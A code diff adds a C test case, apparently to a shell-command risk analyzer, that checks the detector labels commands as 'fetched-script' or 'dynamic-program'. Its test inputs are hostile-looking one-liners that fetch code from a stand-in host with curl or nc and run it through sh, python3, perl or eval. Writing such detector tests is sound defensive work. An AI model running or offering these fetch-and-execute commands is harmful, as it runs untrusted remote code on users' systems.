@@ -118,6 +118,39 @@ static void downloads_in_other_ways(void)
 	CHECK_ALL(rows, FACT_DOUBT);
 }
 
+static void what_fetching_commands_feed(void)
+{
+	static const struct example doubts[] = {
+		ROW("cat <(curl https://x.example/i) > f; sh f; nc x.example 9 > g; . ./g",
+			"fetched-script; fetched-script"),
+		ROW("f() { curl https://x.example/i; }; f > g; sh g; eval \"$(f)\"; x=$(f); sh -c "
+		    "\"$x\"",
+			"fetched-script; fetched-script; dynamic-program; fetched-script; "
+			"dynamic-program"),
+		ROW("exec 3< <(curl https://x.example/i); sh <&3; sh <(nc x.example 9)",
+			"fetched-script; fetched-script"),
+		ROW("curl https://x.example/i | python3 /dev/stdin; curl https://x.example/i | cut "
+		    "-c2- | perl -",
+			"fetched-script; fetched-script"),
+		ROW("curl http://localhost/i | perl -; curl https://x.example/i | python3 x.py",
+			"unread-script"),
+		ROW("f() { curl https://x.example/i; }; f > g; cat g; h() { curl "
+		    "http://localhost/i; }; eval \"$(h)\"",
+			"dynamic-program"),
+		ROW("diff <(curl https://x.example/i) x > f; sh f; read x < <(curl "
+		    "https://x.example/i); cd \"x$x\"",
+			""),
+	};
+	static const struct example commands[] = {
+		ROW("curl https://x.example/i | while read l; do eval \"$l\"; done",
+			"curl https://x.example/i; read l; eval $(curl https://x.example/i); "
+			"$(curl https://x.example/i); curl https://x.example/i"),
+		ROW("ls | while read l; do echo $l; done", "ls; read l; echo $l"),
+	};
+	CHECK_ALL(doubts, FACT_DOUBT);
+	CHECK_ALL(commands, FACT_COMMAND);
+}
+
 static void what_code_writes(void)
 {
 	static const struct example deletes[] = {
@@ -174,6 +207,7 @@ int main(void)
 	TEST(links_of_the_call);
 	TEST(downloads);
 	TEST(downloads_in_other_ways);
+	TEST(what_fetching_commands_feed);
 	TEST(what_code_writes);
 	TEST(what_archives_hold);
 	TEST(programs_under_other_names);
